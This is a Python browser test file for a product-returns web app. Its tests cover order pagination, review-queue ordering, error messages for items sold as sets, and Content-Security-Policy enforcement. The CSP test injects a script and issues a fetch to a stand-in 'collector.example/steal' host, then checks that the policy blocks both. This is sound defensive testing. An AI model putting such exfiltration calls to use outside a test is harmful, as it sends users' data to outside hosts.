"""Lists that page ("Show more", by keyboard, axe-clean), the review queue in REVIEW-SLA order, a set
shown and explained on the request page (titles, never ids; no stale error), and the pages under their
Content-Security-Policy (what it allows works, what it forbids is blocked before the network)."""

from __future__ import annotations

import re
import time
from datetime import datetime

import pytest

from returns_devstack.security_headers import content_security_policy

from .conftest import accessible, csp_violations, new_context, sign_in

pytestmark = [pytest.mark.slow, pytest.mark.browser]

RECORD = "mutation($input: RecordOrderInput!) { recordOrder(input: $input) { userErrors { message } } }"
REQUEST = """mutation($input: RequestReturnInput!) { requestReturn(input: $input) {
  return { id } userErrors { code message } } }"""
REVIEW_WAIT = "query($id: ID!) { return(id: $id) { review { waitingFor deadline } } }"


def _order(order_id: str, email: str, lines: list[dict] | None = None) -> dict:
    from returns_devstack.seed import demo_orders
    from returns_shared.service.dependencies import utc_now

    demo = demo_orders(utc_now())[0]
    return {**demo, "id": order_id, "email": email, "lines": lines or demo["lines"][:1]}


def test_the_portal_pages_a_customers_orders(page, stack):
    email = "many.orders@example.com"
    for n in range(1, 22):  # one more than a page
        assert stack.gql(RECORD, {"input": _order(f"PAGE-{n:02d}", email)}, role="integration")[
            "recordOrder"]["userErrors"] == []
    sign_in(page, stack, "portal", email)
    page.get_by_role("heading", name="Order PAGE-21").wait_for()  # newest first
    assert page.get_by_role("heading", name="Order PAGE-01").count() == 0
    more = page.get_by_role("button", name="Show more orders")
    more.focus()
    page.keyboard.press("Enter")
    oldest = page.get_by_role("heading", name="Order PAGE-01")
    oldest.wait_for()
    assert oldest.evaluate("element => element === document.activeElement")  # keyboard goes on from there
    assert more.is_hidden()
    assert page.get_by_role("status").filter(has_text="1 more order shown; that is all.").count() == 1
    accessible(page)


def test_the_review_queue_pages_in_the_review_sla_order(page, stack):
    """Customers who replied first, then by REVIEW-SLA deadline, earliest first (a tie: by RMA)."""
    template = _order("x", "x@example.com")["lines"][0]
    coats = [{**template, "id": f"C{n}", "sku": f"COAT-{n}", "title": f"Coat {n}", "category": "OUTERWEAR",
              "unitPrice": {"amount": "620.00", "currencyCode": "USD"}} for n in range(21)]
    order = _order("QUEUE-21", "queue.customer@example.com", coats)
    assert stack.gql(RECORD, {"input": order}, role="integration")["recordOrder"]["userErrors"] == []
    mine = []
    for n in range(21):  # 620.00 each: SCREEN-AMOUNT, so every one waits for a review
        line = {"orderLineId": f"C{n}", "quantity": 1, "reason": "STYLE"}
        request = {"orderId": order["id"], "method": "SELF_SHIP", "conditionAttested": True,
                   "idempotencyKey": f"queue-{n}", "lines": [line]}
        answer = stack.gql(REQUEST, {"input": request}, role="agent")["requestReturn"]
        assert answer["userErrors"] == [], answer
        mine.append(answer["return"]["id"])

    def place(return_id: str) -> tuple[bool, datetime, str] | None:
        review = stack.gql(REVIEW_WAIT, {"id": return_id})["return"]["review"]
        if review is None:  # not screened yet
            return None
        return review["waitingFor"] != "AGENT", datetime.fromisoformat(review["deadline"]), return_id

    deadline = time.monotonic() + 30
    while not all(places := [place(i) for i in mine]) and time.monotonic() < deadline:
        time.sleep(0.5)
    expected = [return_id for *_, return_id in sorted(places)]

    sign_in(page, stack, "console")
    page.get_by_role("heading", name="Review queue").wait_for()
    cards = page.locator("main section.card h2")
    cards.first.wait_for()
    assert cards.count() == 20
    page.get_by_role("button", name="Show more returns to review").click()
    page.get_by_role("status").filter(has_text="more returns to review shown").wait_for()
    shown = [text for text in cards.all_inner_texts() if text in mine]
    assert shown == expected  # every one of them, in the queue's order
    assert page.evaluate("document.activeElement.closest('section.card') !== null")  # on the first new card
    accessible(page)


def test_the_request_page_shows_a_set_and_words_its_error_with_titles(page, stack):
    order_id = stack.copy_demo_order("AK-1001", "WEB-SETS")
    sign_in(page, stack, "portal")
    page.goto(f"{stack.url}/portal/#/order/{order_id}/return")
    top = page.get_by_role("group", name="Knit set: top")
    top.get_by_text("Part of a set").wait_for()
    assert "“Knit set: skirt”" in top.inner_text() and "NR-SET" in top.inner_text()
    top.get_by_label("Return this item").check()
    top.get_by_label("Reason").select_option("STYLE")
    top.get_by_label("Note (optional)").fill("The top alone, please")
    quote = page.locator("#quote")
    quote.get_by_text("It is part of a set with “Knit set: skirt”").wait_for()
    page.get_by_label("The items are new").check()
    page.get_by_role("button", name="Request the return").click()
    error = top.locator("p.field-error")  # beside the item it is about
    error.get_by_text("cannot be returned").wait_for()
    text = error.inner_text()
    assert "“Knit set: top” cannot be returned" in text and "“Knit set: skirt”" in text
    assert not any(internal in text for internal in ("L4", "L5", "KNIT-SET")), text
    accessible(page)
    top.get_by_label("Return this item").uncheck()  # the request changed: the error no longer holds
    error.wait_for(state="hidden")  # emptied, and hidden when empty


def test_the_pages_run_under_their_content_security_policy(browser, stack):
    context, offline = new_context(browser)
    page = context.new_page()
    blocked = csp_violations(page)
    response = page.goto(f"{stack.url}/warehouse/")
    policy = response.headers["content-security-policy"]
    photos = re.search(r"img-src 'self' data: (http://127\.0\.0\.1:\d+);", policy)[1]  # the moto server
    assert policy == content_security_policy(photos=photos)
    sign_in(page, stack, "warehouse")  # the local sign-in, config.json and GraphQL work under it
    page.get_by_role("heading", name="Scan a package").wait_for()
    assert blocked == []
    injected = page.evaluate("""() => {
        const s = document.createElement('script');
        s.textContent = 'window.injected = true';
        document.body.append(s);
        return window.injected === true; }""")
    sent = page.evaluate("fetch('https://collector.example/steal').then(() => 'sent', () => 'refused')")
    assert (injected, sent) == (False, "refused")
    assert offline.refused == []  # refused by the policy before any request left the page
    assert any("script-src" in text for text in blocked) and any("connect-src" in text for text in blocked)
    context.close()
